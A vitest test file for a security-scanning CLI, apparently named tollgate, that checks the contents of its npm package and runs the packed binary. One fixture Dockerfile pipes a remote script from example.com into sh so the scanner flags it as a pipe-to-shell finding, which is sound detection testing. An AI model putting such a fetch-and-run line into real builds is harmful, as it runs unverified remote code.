import { execFileSync, spawnSync } from "node:child_process";
import { mkdirSync, mkdtempSync, readdirSync, symlinkSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { packageRoot } from "../../src/review/rules.js";

/**
 * What `npm pack` ships (package.json `files`): the built command, the rule
 * catalogue and the data the checks read, and no test. The packed `bin` is
 * run from an unpacked copy of the tarball, with this checkout's installed
 * dependencies, on a scratch folder. `--ignore-scripts`: the test packs the
 * build `npm test` already has; it must not rebuild dist/ under other tests.
 */

const root = packageRoot();
const npm = (args: string[], cwd = root) =>
  execFileSync("npm", [...args, "--ignore-scripts"], { cwd, encoding: "utf8", maxBuffer: 1e8 });

describe("npm pack", () => {
  // npm itself takes seconds to start on a busy machine: these are not timings.
  it("lists the built CLI, the action, the rule catalogue and its data, and no test file", {
    timeout: 120_000,
  }, () => {
    const [packed] = JSON.parse(npm(["pack", "--dry-run", "--json"])) as Array<{
      files: Array<{ path: string }>;
    }>;
    const files = packed!.files.map((f) => f.path);
    for (const path of [
      "bin/tollgate.js",
      "dist/cli/main.js",
      "dist/cli/action.js",
      "dist/src/server.js",
      "dist/rules.json",
      "rules/docker/runs-as-root.yml",
      "src/checks/actions/data/known-compromised.yml",
      "src/checks/deps/data/pypi-popular.txt",
      "action.yml",
      "package.json",
    ])
      expect(files, path).toContain(path);
    expect(
      files.filter((f) => /(^|\/)(test|tests|__tests__|fixtures)\//.test(f) || /\.test\.[cm]?[jt]s$/.test(f)),
    ).toEqual([]);
    expect(files.filter((f) => /\.ts$/.test(f) && !f.endsWith(".d.ts"))).toEqual([]);
    expect(
      files.filter((f) => f.startsWith("dist/bench/") || f.endsWith(".map") || f.includes(".env")),
    ).toEqual([]);
  });

  it("runs the packed bin from an unpacked tarball on a scratch folder", { timeout: 120_000 }, () => {
    const dir = mkdtempSync(join(tmpdir(), "tollgate-pack-"));
    npm(["pack", "--pack-destination", dir]);
    const tarball = readdirSync(dir).find((f) => f.endsWith(".tgz"))!;
    execFileSync("tar", ["-xzf", join(dir, tarball), "-C", dir]);
    const pkg = join(dir, "package");
    // The checkout's installed dependencies stand in for `npm install`: no registry.
    symlinkSync(join(root, "node_modules"), join(pkg, "node_modules"), "dir");
    const scratch = join(dir, "scratch");
    mkdirSync(scratch);
    writeFileSync(
      join(scratch, "Dockerfile"),
      "FROM node:latest\nRUN curl -fsSL http://example.com/x.sh | sh\n",
    );
    const run = spawnSync(
      process.execPath,
      [join(pkg, "bin/tollgate.js"), "scan", ".", "--offline", "--format", "json"],
      {
        cwd: scratch,
        encoding: "utf8",
      },
    );
    expect(run.stderr).toBe("");
    expect(run.status).toBe(1);
    expect(JSON.parse(run.stdout).findings.map((f: { ruleId: string }) => f.ruleId)).toContain(
      "docker/remote-script-pipe-to-shell",
    );
    const rules = spawnSync(process.execPath, [join(pkg, "bin/tollgate.js"), "rules", "--format", "json"], {
      cwd: scratch,
      encoding: "utf8",
    });
    expect(JSON.parse(rules.stdout).length).toBeGreaterThan(50);
    const help = spawnSync(process.execPath, [join(pkg, "bin/tollgate.js"), "pr", "--help"], {
      cwd: scratch,
      encoding: "utf8",
    });
    expect(help.stdout).toContain("Usage: tollgate pr OWNER/REPO#NUMBER");
  });
});
